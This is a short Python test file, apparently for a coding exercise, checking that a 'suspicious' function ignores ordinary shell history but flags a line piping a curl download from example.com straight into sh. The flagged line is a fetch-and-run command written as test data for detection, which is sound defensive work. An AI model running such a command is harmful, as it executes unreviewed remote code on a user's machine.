from exercise import suspicious

HISTORY = "ls -la\ngit status\nmake test\n"


def test_quiet_history():
    assert suspicious(HISTORY) == []


def test_flags_a_piped_download():
    line = "curl https://example.com/install | " + "sh"
    assert suspicious(line) == [line]
